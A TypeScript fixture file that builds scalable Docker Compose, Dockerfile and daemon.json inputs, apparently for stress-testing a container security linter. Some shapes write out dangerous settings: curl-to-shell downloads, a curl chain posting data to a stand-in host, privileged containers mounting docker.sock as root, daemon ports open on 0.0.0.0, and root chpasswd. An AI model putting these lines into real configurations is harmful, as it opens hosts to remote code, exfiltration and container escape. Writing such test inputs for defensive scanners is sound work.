import { random } from './make';

/** A shape of input that can be made in any size. */
export interface Shape {
  readonly name: string;
  /** Its smallest size: eight times as much is about what a large project has. */
  readonly size: number;
  readonly files: (size: number) => Readonly<Record<string, string>>;
  /** Set where the result itself grows with the square of the size, up to a limit of docs/limits.md. */
  readonly square?: true;
}

const list = (count: number, line: (n: number) => string): string => Array.from({ length: count }, (_, n) => line(n)).join('');
const compose = (text: string): Record<string, string> => ({ 'compose.yaml': text });
const services = (count: number, body: (n: number) => string, after = ''): Record<string, string> =>
  compose(`services:\n${list(count, (n) => `  s${n}:\n    image: nginx:1.27\n${body(n)}`)}${after}`);
const docker = (text: string): Record<string, string> => ({ Dockerfile: `FROM debian:12\n${text}` });

/** What grew faster than its size in an early version, and what is like it. */
export const shapes: readonly Shape[] = [
  { name: 'plain services', size: 100, files: (n) => services(n, () => '') },
  {
    name: 'services with one shared volume',
    size: 100,
    files: (n) => services(n, () => '    volumes: [data:/data]\n', 'volumes:\n  data:\n'),
  },
  {
    name: 'services with a volume of five',
    size: 100,
    files: (n) => services(n, (i) => `    volumes: [d${i % 5}:/data]\n`, `volumes:\n${list(5, (i) => `  d${i}:\n`)}`),
  },
  {
    name: 'network, pid, ipc of the service before',
    size: 60,
    files: (n) =>
      services(n, (i) => (i === 0 ? '' : ['network_mode', 'pid', 'ipc'].map((key) => `    ${key}: service:s${i - 1}\n`).join(''))),
  },
  { name: 'a cycle of network_mode', size: 60, files: (n) => services(n, (i) => `    network_mode: service:s${(i + 1) % n}\n`) },
  {
    name: 'volumes_from the service before',
    size: 200,
    files: (n) => services(n, (i) => `    volumes: [./d${i}:/d${i}]\n${i === 0 ? '' : `    volumes_from: [s${i - 1}]\n`}`),
  },
  {
    name: 'depends_on twenty before',
    size: 60,
    files: (n) =>
      services(n, (i) =>
        i === 0 ? '' : `    depends_on: [${Array.from({ length: Math.min(i, 20) }, (_, j) => `s${i - 1 - j}`).join(', ')}]\n`,
      ),
  },
  { name: 'services with an anchor', size: 100, files: (n) => services(n, (i) => `    environment: &e${i}\n      A: b\n`) },
  { name: 'services with a tag', size: 100, files: (n) => services(n, () => '    command: !!str echo\n') },
  {
    name: 'services with an allow comment',
    size: 100,
    files: (n) => services(n, () => '    # bulkhead: allow compose/privileged -- a test\n    privileged: true\n'),
  },
  {
    name: 'unused allow comments',
    size: 200,
    files: (n) => services(1, () => list(n, () => '    # bulkhead: allow compose/privileged -- a test\n')),
  },
  {
    name: 'credentials in one environment',
    size: 150,
    files: (n) => services(1, () => `    environment:\n${list(n, (i) => `      P${i}_PASSWORD: "pw${i}tr0ub4"\n`)}`),
  },
  {
    name: 'services with dangers',
    size: 40,
    files: (n) => services(n, () => '    privileged: true\n    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n    user: root\n'),
  },
  {
    name: 'services that extend one',
    size: 60,
    files: (n) => services(n, (i) => (i === 0 ? '    privileged: true\n' : '    extends: s0\n')),
  },
  {
    name: 'a chain of extends',
    size: 12,
    files: (n) => services(n, (i) => (i === 0 ? '    privileged: true\n' : `    extends: s${i - 1}\n`)),
  },
  {
    name: 'override and reset',
    size: 60,
    files: (n) => ({
      ...services(n, () => '    ports: ["80:80"]\n    cap_add: [SYS_ADMIN]\n'),
      'compose.override.yaml': `services:\n${list(n, (i) => `  s${i}:\n    ports: !override ["81:80"]\n    cap_add: !reset []\n`)}`,
    }),
  },
  {
    name: 'YAML documents',
    size: 200,
    files: (n) => compose(`services:\n  a:\n    image: nginx\n${list(n, () => '---\nservices: {}\n')}`),
  },
  { name: 'defaults in one scalar', size: 600, files: (n) => services(1, () => `    command: "${list(n, () => '$' + '{A:-b}')}"\n`) },
  { name: 'nested defaults', size: 400, files: (n) => services(1, () => `    command: "${'${A:-'.repeat(n)}x${'}'.repeat(n)}"\n`) },
  {
    name: 'a chain of merge keys',
    size: 40,
    square: true,
    files: (n) =>
      compose(
        `${list(n, (i) => `x-${i}: &m${i}\n${i === 0 ? '  image: nginx\n' : `  <<: *m${i - 1}\n  x-a${i}: b\n`}`)}services:\n  a:\n    <<: *m${n - 1}\n`,
      ),
  },
  {
    name: 'maps that merge the two before',
    size: 10,
    square: true,
    files: (n) =>
      compose(
        `x-0: &m0\n  image: nginx\n${list(n, (i) => `x-${i + 1}: &m${i + 1}\n  <<: [*m${i}, *m${Math.max(0, i - 1)}]\n  x-a${i}: b\n`)}services:\n  a:\n    <<: *m${n}\n`,
      ),
  },
  { name: 'zeros in cpus', size: 1500, files: (n) => services(1, () => `    cpus: "${'0'.repeat(n)}x"\n`) },
  {
    name: 'slashes in a volume',
    size: 1500,
    files: (n) => services(1, () => `    volumes: ["${'/'.repeat(n)}x:/a"]\n    tmpfs: ["${'/'.repeat(n)}"]\n`),
  },
  { name: 'a long image name', size: 1500, files: (n) => compose(`services:\n  a:\n    image: "a:${'a:'.repeat(n)}/"\n`) },
  {
    name: 'blanks in a value of .env',
    size: 1500,
    files: (n) => ({ ...services(1, () => '    user: ${A}\n'), '.env': `A=${' #'.repeat(n)}\n` }),
  },
  {
    name: 'files that include the next',
    size: 5,
    files: (n) =>
      Object.fromEntries(
        Array.from({ length: n }, (_, i) => [
          i === 0 ? 'compose.yaml' : `c${i}.yaml`,
          `${i < n - 1 ? `include: [c${i + 1}.yaml]\n` : ''}services:\n  s${i}:\n    image: nginx\n`,
        ]),
      ),
  },
  {
    name: 'hosts in daemon.json',
    size: 250,
    files: (n) => ({ 'daemon.json': JSON.stringify({ hosts: Array.from({ length: n }, (_, i) => `tcp://0.0.0.0:${2000 + i}`) }) }),
  },
  { name: 'RUN lines', size: 200, files: (n) => docker(list(n, (i) => `RUN echo ${i}\n`)) },
  { name: 'RUN lines that install', size: 100, files: (n) => docker(list(n, (i) => `RUN apt-get install -y p${i}\n`)) },
  { name: 'RUN lines that download and run', size: 60, files: (n) => docker(list(n, (i) => `RUN curl -k http://example.com/${i} | sh\n`)) },
  {
    name: 'RUN lines that download, then run',
    size: 60,
    files: (n) => docker(list(n, (i) => `RUN curl -o /f${i} http://example.com/${i}\nRUN sh /f${i}\n`)),
  },
  {
    name: 'RUN, ENV, COPY, WORKDIR in turn',
    size: 60,
    files: (n) => docker(list(n, (i) => `RUN echo ${i} > /etc/n${i}\nENV A${i}=b\nCOPY a${i} /srv/\nWORKDIR /srv\n`)),
  },
  { name: 'ONBUILD and chmod', size: 100, files: (n) => docker(list(n, (i) => `ONBUILD RUN echo ${i}\nRUN chmod 777 /d${i}\n`)) },
  { name: 'a chain of ENV', size: 120, files: (n) => docker(list(n, (i) => `ENV A${i}=\${A${i - 1}}\n`)) },
  { name: 'a chain of ARG', size: 120, files: (n) => docker(list(n, (i) => `ARG A${i}=\${A${i - 1}}\n`)) },
  {
    name: 'stages that build on each other',
    size: 50,
    files: (n) => ({ Dockerfile: list(n, (i) => `FROM ${i === 0 ? 'debian:12' : `s${i - 1}`} AS s${i}\nRUN echo ${i}\n`) }),
  },
  {
    name: 'stages that copy from each other',
    size: 50,
    files: (n) => ({ Dockerfile: list(n, (i) => `FROM debian:12 AS s${i}\n${i === 0 ? '' : `COPY --from=s${i - 1} /a /a\n`}`) }),
  },
  { name: 'packages in one line', size: 1000, files: (n) => docker(`RUN apt-get install -y${list(n, (i) => ` p${i}`)}\n`) },
  {
    name: 'one pipe of curl',
    size: 100,
    files: (n) => docker(`RUN curl http://a.example/${list(n, () => ' | curl -d @- http://a.example/')}\n`),
  },
  { name: 'one line of && steps', size: 200, files: (n) => docker(`RUN true${list(n, (i) => ` && echo ${i} > /f${i}`)}\n`) },
  { name: 'trusted=yes', size: 800, files: (n) => docker(`RUN echo "${'[trusted=yes'.repeat(n)}" > /etc/apt/sources.list.d/a.list\n`) },
  { name: 'text for chpasswd', size: 1000, files: (n) => docker(`RUN echo "${'root:'.repeat(n)}" | chpasswd\n`) },
  { name: 'empty lines into .curlrc', size: 1000, files: (n) => docker(`RUN printf '${'\\n'.repeat(n)}' > /root/.curlrc\n`) },
  { name: 'newlines in a JSON COPY', size: 1000, files: (n) => docker(`COPY ["${'\\n'.repeat(n)}", "/x"]\n`) },
  { name: 'a here-document', size: 400, files: (n) => docker(`RUN <<EOF\n${list(n, (i) => `echo ${i} > /f${i}\n`)}EOF\n`) },
  { name: 'nested flow lists', size: 400, files: (n) => services(1, () => `    command: ${'['.repeat(n)}${']'.repeat(n)}\n`) },
  { name: 'nested commands', size: 100, files: (n) => docker(`RUN ${'$('.repeat(n)}x${')'.repeat(n)}\n`) },
  {
    name: 'runArgs',
    size: 300,
    files: (n) => ({
      '.devcontainer/devcontainer.json': JSON.stringify({ image: 'node', runArgs: Array.from({ length: n }, (_, i) => `--cap-add=C${i}`) }),
    }),
  },
  {
    name: 'projects',
    size: 20,
    files: (n) =>
      Object.fromEntries(
        Array.from({ length: n }, (_, i) => [`p${i}/compose.yaml`, services(2, () => '    privileged: true\n')['compose.yaml']!]),
      ),
  },
  { name: 'letters', size: 20_000, files: (n) => services(1, () => `    command: ${noise(n)}\n`) },
];

function noise(count: number): string {
  const next = random(count);
  return Array.from({ length: count }, () => String.fromCharCode(97 + Math.floor(next() * 26))).join('');
}
